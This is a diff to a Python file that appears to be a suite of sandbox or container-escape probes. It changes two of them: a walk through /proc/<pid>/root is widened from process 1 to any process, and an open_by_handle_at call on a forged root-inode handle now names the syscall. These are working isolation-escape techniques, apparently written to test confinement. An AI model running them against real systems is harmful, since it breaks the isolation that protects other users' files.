@@ -13,7 +13,7 @@ import sys
 from pathlib import Path
 from typing import Any
 
-from known import HOME, MAP, VICTIM, attempt, syscall
+from known import HOME, MAP, VICTIM, attempt, from_any, syscall
 
 
 @attempt
@@ -149,8 +149,8 @@ def hard_link_the_victims_file() -> Any:
 
 
 @attempt
-def walk_out_through_the_root_of_process_one() -> Any:
-    return [name for name in os.listdir("/proc/1/root" + str(HOME)) if name != "jobs"] or None  # where one's own lies
+def walk_out_through_the_root_of_another_process() -> Any:
+    return from_any(lambda pid: [name for name in os.listdir(f"/proc/{pid}/root{HOME}") if name != "jobs"] or None)
 
 
 @attempt
@@ -169,7 +169,7 @@ def walk_out_through_an_open_descriptor() -> Any:
 @attempt
 def open_a_file_by_its_handle() -> Any:
     handle = struct.pack("=Ii8s", 8, 1, struct.pack("=II", 2, 0))  # inode 2: the root of the disk
-    return syscall(304, os.open("/", os.O_RDONLY), ctypes.c_char_p(handle), os.O_RDONLY)
+    return syscall("open_by_handle_at", os.open("/", os.O_RDONLY), ctypes.c_char_p(handle), os.O_RDONLY)
 
 
 @attempt
